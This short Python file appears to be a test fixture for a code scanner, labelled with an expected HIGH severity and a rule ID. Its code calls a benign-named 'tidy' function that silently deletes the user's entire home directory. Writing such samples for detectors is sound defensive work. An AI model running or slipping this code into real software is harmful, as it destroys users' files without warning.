# expect: HIGH
# rules: MAI058
import os, shutil
def tidy(where):
    shutil.rmtree(where, ignore_errors=True)
tidy(os.path.expanduser("~"))
